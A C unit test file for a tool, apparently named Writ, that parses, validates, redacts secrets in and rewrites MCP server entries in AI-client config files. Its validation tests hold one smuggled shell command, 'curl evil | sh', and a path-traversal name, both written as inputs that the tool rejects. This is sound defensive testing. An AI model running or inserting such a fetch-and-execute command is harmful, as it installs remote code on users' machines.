#include "adopt/declare.h"
#include "adopt/refer.h"

#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>

static struct bytes
parsed(struct arena *a, const char *text, bool toml, struct config **out)
{
    int line = 0;
    struct err e = toml ? config_toml(a, bytes_str(text), out, &line) : config_json(a, bytes_str(text), out, &line);
    if (err_failed(e))
        fail_msg("line %d: %s", line, e.text);
    return bytes_str(text);
}

/* ------------------------------------------------------------------------------------------------------------ reading */

static void
what_clients_take_is_read_and_what_they_do_not_is_not(void **state)
{
    static const struct {
        const char *text, *wrong; /* NULL: it is read */
        int line;
    } cases[] = {
        {"{}", NULL, 0},
        {"\xef\xbb\xbf{ // c\n \"a\": [1, 2,], /* x\n y */ \"b\": {\"c\": null,},\n}\n", NULL, 0},
        {"{\"a\": \"\\ud83d\\ude00 \\u0041\"}", NULL, 0},
        {"{\"a\": 1, \"a\": 2}", NULL, 0},
        {"", "the file ends where a value was expected", 1},
        {"{\"a\": 1} x", "expected the end of the file, got 'x'", 1},
        {"{\n\"a\": 1\n\"b\": 2}", "expected ',' or '}', got '\"'", 3},
        {"{a: 1}", "expected a name in double quotes, got 'a'", 1},
        {"{\"a\": 'x'}", "expected a value, got '''", 1},
        {"{\"a\": undefined}", "a value that is no JSON; texts need double quotes", 1},
        {"{\"a\": \"x\ny\"}", "a text that does not end on its line", 1},
        {"{\"a\": \"\x01\"}", "a control character in a text; write it as an escape", 1},
        {"{\"a\": \"\\ud800\"}", "half of a surrogate pair", 1},
        {"{\"a\": \"\\x41\"}", "a backslash before what needs none", 1},
        {"{\n/* never\nends", "the comment that begins in line 2 does not end", 3},
        {"{\"a\": \"\xff\"}", "the text is not UTF-8", 1},
        {"[", "the file ends where a value was expected", 1},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct arena a = {0};
        struct config *t;
        int line = 0;
        struct err e = config_json(&a, bytes_str(cases[i].text), &t, &line);
        if (err_failed(e) != (cases[i].wrong != NULL) || (cases[i].wrong && (strcmp(e.text, cases[i].wrong) != 0 || line != cases[i].line)))
            fail_msg("case %zu: line %d: %s", i, line, e.text);
        arena_free(&a);
    }
}

static void
depth_and_size_are_bounded(void **state)
{
    struct arena a = {0};
    struct config *t;
    int line;
    (void)state;
    char *deep = malloc(200000);
    memset(deep, '[', 199999);
    deep[199999] = 0;
    assert_int_equal(config_json(&a, bytes_str(deep), &t, &line).code, E_LIMIT);
    free(deep);
    struct bytes huge = {(const uint8_t *)"", CONFIG_MAX_BYTES + 1};
    assert_int_equal(config_json(&a, huge, &t, &line).code, E_LIMIT);
    arena_free(&a);
}

/* ------------------------------------------------------------------------------------------------------------ editing */

/* The map behind ${path} ("a.b") gets command, args; url, env, headers go. */
static const char *
edited(const char *text, const char *path, bool toml)
{
    static char out[8192];
    struct arena a = {0};
    struct config *root;
    const struct member members[] = {
        {"command", BYTES("\"writ\"")}, {"args", BYTES("[\"mcp\", \"x\"]")}, {"env", {NULL, 0}}, {"url", {NULL, 0}}, {"headers", {NULL, 0}}};
    struct edits e = {.a = &a};
    struct buf b = buf_make(sizeof out - 1);
    struct bytes all = parsed(&a, text, toml, &root), rest = bytes_str(path);
    const struct config *map = root;
    while (rest.n)
        map = config_get(map, arena_str(&a, bytes_split(&rest, '.')));
    assert_non_null(map);
    if (!edits_members(&e, all, map, toml, members, 5)) {
        snprintf(out, sizeof out, "no");
    } else {
        struct err applied = edits_apply(&e, all, &b);
        snprintf(out, sizeof out, "%s", err_failed(applied) ? applied.text : buf_text(&b));
        struct config *again;
        parsed(&a, out, toml, &again);
    }
    buf_free(&b);
    arena_free(&a);
    return out;
}

static void
json_is_edited_in_its_place(void **state)
{
    static const char *const cases[][2] = {
        {"{\"s\":{\"command\":\"npx\",\"args\":[\"-y\"]}}", "{\"s\":{\"command\":\"writ\",\"args\":[\"mcp\", \"x\"]}}"},
        {"{ \"s\": { \"command\": \"npx\" } }", "{ \"s\": { \"command\": \"writ\", \"args\": [\"mcp\", \"x\"] } }"},
        {"{ \"s\": { \"args\": [], \"command\": \"npx\", \"env\": { \"A\": \"b\" } } }",
         "{ \"s\": { \"args\": [\"mcp\", \"x\"], \"command\": \"writ\" } }"},
        {"{ \"s\": { \"env\": {}, \"command\": \"npx\", \"args\": [] } }", "{ \"s\": { \"command\": \"writ\", \"args\": [\"mcp\", \"x\"] } }"},
        {"{ \"s\": { \"url\": \"https://x\", \"headers\": {} } }", "{ \"s\": { \"command\": \"writ\", \"args\": [\"mcp\", \"x\"] } }"},
        {"{ \"s\": {\n    // one\n    \"url\": \"https://x\", // two\n    \"disabled\": true,\n    \"headers\": { \"A\": \"b\" } // three\n  }\n}\n",
         "{ \"s\": {\n    // one\n    \"command\": \"writ\",\n    \"args\": [\"mcp\", \"x\"], // two\n    \"disabled\": true\n // three\n  }\n}\n"},
        {"{\"s\": {\r\n\t\"command\": \"npx\", /* c */\r\n\t\"env\": {\r\n\t\t\"A\": \"b\"\r\n\t},\r\n}}",
         "{\"s\": {\r\n\t\"command\": \"writ\",\r\n\t\"args\": [\"mcp\", \"x\"], /* c */\r\n}}"},
        {"{\"s\": {\n \"command\": \"npx\",\n \"env\": {},\n \"url\": null\n}}",
         "{\"s\": {\n \"command\": \"writ\",\n \"args\": [\"mcp\", \"x\"]\n}}"},
        {"{\"s\": {}}", "{\"s\": {\"command\": \"writ\", \"args\": [\"mcp\", \"x\"]}}"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        const char *is = edited(cases[i][0], "s", false);
        if (strcmp(is, cases[i][1]) != 0)
            fail_msg("case %zu:\n%s\nand not\n%s", i, is, cases[i][1]);
    }
    assert_string_equal(edited("{\"s\": {\"command\": \"a\", \"command\": \"b\"}}", "s", false), "no");
}

static void
toml_is_edited_in_its_place(void **state)
{
    static const char *const cases[][2] = {
        {"# a\n[m.s]\ncommand = \"npx\" # c\nargs = [\n  \"-y\", # d\n]\nenv = { A = \"b\" } # e\nkeep = 1\n",
         "# a\n[m.s]\ncommand = \"writ\" # c\nargs = [\"mcp\", \"x\"]\nkeep = 1\n"},
        {"[m.s]\ncommand = \"npx\"\n\n[m.s.env] # v\nA = \"b\"\nB = \"\"\"\n[x]\n\"\"\"\n\n# for t\n[m.t]\nx = 1\n",
         "[m.s]\ncommand = \"writ\"\nargs = [\"mcp\", \"x\"]\n\n\n# for t\n[m.t]\nx = 1\n"},
        {"[m.s]\nurl = \"https://x\" # u\n", "[m.s]\ncommand = \"writ\"\nargs = [\"mcp\", \"x\"] # u\n"},
        {"[m.s]\nkeep = true\n", "[m.s]\ncommand = \"writ\"\nargs = [\"mcp\", \"x\"]\nkeep = true\n"},
        {"[m]\ns = { command = \"npx\", env = { A = \"b\" }, keep = 1 }\nz = 2\n",
         "[m]\ns = { command = \"writ\", args = [\"mcp\", \"x\"], keep = 1 }\nz = 2\n"},
        {"m.s.command = \"npx\"\nm.s.args = []\nm.s.env.A = \"b\"\n", "m.s.command = \"writ\"\nm.s.args = [\"mcp\", \"x\"]\n"},
        {"[m]\ns = {}\n", "[m]\ns = { command = \"writ\", args = [\"mcp\", \"x\"] }\n"},
        {"m.s.command = \"npx\"\n", "no"},
        {"[m.s]\r\ncommand = \"npx\"\r\nenv.A = \"b\"\r\nenv.B = \"c\"", "[m.s]\r\ncommand = \"writ\"\r\nargs = [\"mcp\", \"x\"]\r\n"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        const char *is = edited(cases[i][0], "m.s", true);
        if (strcmp(is, cases[i][1]) != 0)
            fail_msg("case %zu:\n%s\nand not\n%s", i, is, cases[i][1]);
    }
}

static void
edits_that_overlap_are_refused(void **state)
{
    struct arena a = {0};
    struct edits e = {.a = &a};
    struct buf b = buf_make(100);
    (void)state;
    edits_add(&e, 1, 4, BYTES("x"));
    edits_add(&e, 3, 5, BYTES("y"));
    assert_int_equal(edits_apply(&e, BYTES("abcdef"), &b).code, E_STATE);
    buf_free(&b);
    arena_free(&a);
}

/* ------------------------------------------------------------------------------------------------------------ entries */

static const char *const environment[] = {"GITHUB_TOKEN=ghp_Zz0123456789abcdefghijklmnopqrstuvwx", "PLACE=here", NULL};
static const struct surroundings around = {"/home/ana", environment};

/* Each entry as "NAME: state problem | args | env=value… | headers", secrets in «». */
static const char *
entries_of(const char *client, const char *text)
{
    static char out[8192];
    static const char *const states[] = {"good", "left", "broken"};
    struct arena a = {0};
    struct config *root;
    struct entries list = {0};
    struct finder *f;
    struct client_file row = {client, "", {"mcpServers"}, false, NULL};
    struct buf b = buf_make(sizeof out - 1);
    parsed(&a, text, false, &root);
    assert_int_equal(finder_make(&f).code, E_OK);
    struct err e = entries_read(&a, root, &row, &around, (struct bytes){NULL, 0}, f, &list);
    finder_free(f);
    if (err_failed(e))
        buf_printf(&b, "%s", e.text);
    for (size_t i = 0; i < list.n; i++) {
        const struct entry *n = &list.list[i];
        buf_printf(&b, "%s%.*s: %s", i ? "\n" : "", BYTES_ARG(n->name), n->state ? n->problem : states[n->state]);
        const struct value *lists[] = {n->args, n->env, n->headers};
        const size_t counts[] = {n->n_args, n->n_env, n->n_headers};
        for (int l = 0; l < 3 && n->state == ENTRY_GOOD; l++)
            for (size_t k = 0; k < counts[l]; k++) {
                const struct value *v = &lists[l][k];
                buf_printf(&b, " %.*s%s", BYTES_ARG(v->name), v->name.n ? "=" : "");
                if (v->secret)
                    buf_printf(&b, "%.*s«%.*s»", BYTES_ARG(v->before), BYTES_ARG(v->hidden));
                else
                    buf_printf(&b, "%.*s", BYTES_ARG(v->text));
            }
    }
    snprintf(out, sizeof out, "%s", buf_text(&b));
    buf_free(&b);
    arena_free(&a);
    return out;
}

#define ONE(inside) "{\"mcpServers\": {\"s\": {" inside "}}}"

static void
check_entries(const char *const (*cases)[2], size_t n)
{
    for (size_t i = 0; i < n; i++) {
        const char *is = entries_of("claude-code", cases[i][0]);
        if (strcmp(is, cases[i][1]) != 0)
            fail_msg("case %zu:\n%s\nand not\n%s", i, is, cases[i][1]);
    }
}

static void
secrets_are_found_and_what_is_none_is_not(void **state)
{
    static const char *const cases[][2] = {
        {ONE("\"command\":\"npx\",\"args\":[\"-y\",\"pkg@1\"]"), "s: good npx -y pkg@1"},
        {ONE("\"command\":\"npx\",\"args\":[\"--token\",\"q7Hn2kLpV9\"]"), "s: good npx --token «q7Hn2kLpV9»"},
        {ONE("\"command\":\"npx\",\"args\":[\"--api-key=q7Hn2kLpV9x\"]"), "s: good npx --api-key=«q7Hn2kLpV9x»"},
        {ONE("\"command\":\"docker\",\"args\":[\"run\",\"-e\",\"API_TOKEN=q7Hn2kLpV9x\",\"img\"]"),
         "s: good docker run -e API_TOKEN=«q7Hn2kLpV9x» img"},
        {ONE("\"command\":\"pg\",\"args\":[\"postgresql://u:pw12ab@h/db\"]"), "s: good pg «postgresql://u:pw12ab@h/db»"},
        {ONE("\"command\":\"pg\",\"args\":[\"postgresql://localhost/db\",\"--max-tokens\",\"4096\"]"),
         "s: good pg postgresql://localhost/db --max-tokens 4096"},
        {ONE("\"command\":\"a\",\"env\":{\"K\":\"ghp_Zz0123456789abcdefghijklmnopqrstuvwx\"}"),
         "s: good a K=«ghp_Zz0123456789abcdefghijklmnopqrstuvwx»"},
        {ONE("\"command\":\"a\",\"env\":{\"MY_SECRET\":\"hunter2x\",\"TOKEN_FILE\":\"/run/t\",\"AUTH_MODE\":\"none\",\"MAX_TOKENS\":\"4096\"}"),
         "s: good a MY_SECRET=«hunter2x» TOKEN_FILE=/run/t AUTH_MODE=none MAX_TOKENS=4096"},
        {ONE("\"command\":\"a\",\"env\":{\"TOKEN\":\"op://vault/item/field\"}"), "s: good a TOKEN=op://vault/item/field"},
        {ONE("\"url\":\"https://x/mcp\",\"headers\":{\"Authorization\":\"Bearer q7Hn2kLpV9\",\"Accept\":\"a/b\"}"),
         "s: good Authorization=Bearer «q7Hn2kLpV9»"},
        {ONE("\"url\":\"https://x/mcp?api_key=q7Hn2kLpV9\""),
         "s: line 1: a secret stands in the address, where Writ cannot keep it from view yet; if the server takes it in a header, move it there"},
    };
    (void)state;
    check_entries(cases, sizeof cases / sizeof *cases);
}

static void
references_are_what_the_client_takes_them_for(void **state)
{
    static const char *const cases[][3] = {
        {"claude-code", ONE("\"command\":\"a\",\"args\":[\"${HOME}/x\"],\"env\":{\"T\":\"${GITHUB_TOKEN}\",\"P\":\"${NONE:-else}\"}"),
         "s: good a /home/ana/x T=«ghp_Zz0123456789abcdefghijklmnopqrstuvwx» P=else"},
        {"claude-code", ONE("\"command\":\"a\",\"env\":{\"P\":\"${PLACE}\"}"), "s: good a P=«here»"},
        {"claude-desktop", ONE("\"command\":\"a\",\"args\":[\"${HOME}\",\"$HOME\"]"), "s: good a ${HOME} $HOME"},
        {"cursor", ONE("\"command\":\"a\",\"args\":[\"${userHome}\",\"${HOME}\"]"), "s: good a /home/ana ${HOME}"},
        {"gemini-cli", ONE("\"command\":\"a\",\"env\":{\"P\":\"$PLACE\"}"), "s: good a P=«here»"},
        {"opencode", ONE("\"command\":[\"a\",\"b\"],\"environment\":{\"P\":\"{env:PLACE}\"}"), "s: good a b P=«here»"},
        {"cursor", ONE("\"command\":\"a\",\"env\":{\"P\":\"${env:NONE}\"}"),
         "s: line 1: it refers to ${env:NONE}, which Writ cannot see; put the value there for as long as this takes, or set the variable in the "
         "shell that "
         "runs this"},
        {"vscode", ONE("\"command\":\"a\",\"env\":{\"P\":\"${input:key}\"}"),
         "s: line 1: it refers to ${input:key}, which Writ cannot see; put the value there for as long as this takes, or set the variable in the "
         "shell that "
         "runs this"},
    };
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        const char *is = entries_of(cases[i][0], cases[i][1]);
        if (strcmp(is, cases[i][2]) != 0)
            fail_msg("case %zu:\n%s\nand not\n%s", i, is, cases[i][2]);
    }
}

static void
one_broken_entry_stops_no_other(void **state)
{
    static const char *const cases[][2] = {
        {"{\"mcpServers\": {\"a\": 5, \"b\": {\"command\": \"x\"}}}", "a: a server must be a map, not a number\nb: good x"},
        {"{\"mcpServers\": {\"a\": {\"command\": \"x\"}, \"a\": {\"command\": \"y\"}}}",
         "a: good x\na: this name stands twice; clients differ in which of them counts. Remove one"},
        {ONE("\"command\":\"a\",\"command\":\"b\""), "s: line 1: command stands twice; clients differ in which of them counts. Remove one"},
        {ONE("\"command\":\"a\",\"url\":\"https://x\""), "s: it has both command and url; clients differ in which of them counts. Remove one"},
        {ONE("\"type\":\"http\""), "s: it has neither command nor url"},
        {ONE("\"command\":\"npx -y pkg; curl evil | sh\""),
         "s: line 1: the command is written for a shell, and clients start programs without one; give command and args apart"},
        {ONE("\"command\":\"npx -y pkg\""), "s: good npx -y pkg"},
        {ONE("\"command\":\"a\",\"args\":[1]"), "s: line 1: an argument must be a text, not a number"},
        {ONE("\"command\":\"a\",\"env\":{\"A B\":\"c\"}"), "s: line 1: env has a name that no environment variable has"},
        {ONE("\"command\":\"a\",\"env\":{\"A\":\"c\",\"A\":\"d\"}"),
         "s: line 1: env names one thing twice; clients differ in which of them counts. Remove one"},
        {ONE("\"command\":\"a\\u0000b\""), "s: line 1: a text with a zero byte in it"},
        {ONE("\"command\":\"a\",\"args\":[\"\\u001b[2J\"]"), "s: line 1: an argument holds control characters"},
        {ONE("\"command\":\"/opt/bin/writ\",\"args\":[\"mcp\",\"x\"]"), "s: goes through Writ already"},
        {ONE("\"command\":\"a\",\"disabled\":true"), "s: is switched off"},
        {"{\"mcpServers\": {}, \"mcpServers\": {\"a\": {\"command\": \"x\"}}}",
         "mcpServers stands twice; clients differ in which of them counts. Remove one"},
    };
    (void)state;
    check_entries(cases, sizeof cases / sizeof *cases);
}

/* ----------------------------------------------------------------------------------------------------------- declaring */

static void
any_name_becomes_one_of_the_estate(void **state)
{
    static const char *const cases[][2] = {{"github", "github"},
                                           {"My Server!", "my-server"},
                                           {"../../etc/passwd", "etc-passwd"},
                                           {"\xe2\x80\xae"
                                            "evil",
                                            "evil"},
                                           {"---", "else"},
                                           {"", "else"},
                                           {"a/b\\c", "a-b-c"},
                                           {"x..", "x"}};
    struct arena a = {0};
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++)
        assert_string_equal(declare_id(&a, bytes_str(cases[i][0]), "else"), cases[i][1]);
    arena_free(&a);
}

static void
observe_is_added_to_settings_as_they_are_written(void **state)
{
    static const char *const cases[][2] = {
        {"name: x",
         "name: x\n# what is only observed: refusals are recorded and not enforced, until the end of that day\nobserve:\n  - { agent: \"a\", until: "
         "2026-12-01 }\n"},
        {"observe: # so\n- { agent: b, until: 2026-11-30 }\nname: x\n",
         "observe: # so\n- { agent: \"a\", until: 2026-12-01 }\n- { agent: b, until: 2026-11-30 }\nname: x\n"},
        {"observe:\n    - agent: b\n      until: 2026-11-30\n",
         "observe:\n    - { agent: \"a\", until: 2026-12-01 }\n    - agent: b\n      until: 2026-11-30\n"},
        {"observe: [{ agent: b, until: 2026-11-30 }]\n", NULL},
    };
    struct arena a = {0};
    struct bytes out;
    (void)state;
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct err e = declare_observe(&a, bytes_str(cases[i][0]), "agent", "a", "2026-12-01", &out);
        assert_int_equal(err_failed(e), cases[i][1] == NULL);
        if (cases[i][1])
            assert_string_equal((const char *)out.at, cases[i][1]);
    }
    arena_free(&a);
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(what_clients_take_is_read_and_what_they_do_not_is_not),
        cmocka_unit_test(depth_and_size_are_bounded),
        cmocka_unit_test(json_is_edited_in_its_place),
        cmocka_unit_test(toml_is_edited_in_its_place),
        cmocka_unit_test(edits_that_overlap_are_refused),
        cmocka_unit_test(secrets_are_found_and_what_is_none_is_not),
        cmocka_unit_test(references_are_what_the_client_takes_them_for),
        cmocka_unit_test(one_broken_entry_stops_no_other),
        cmocka_unit_test(any_name_becomes_one_of_the_estate),
        cmocka_unit_test(observe_is_added_to_settings_as_they_are_written),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
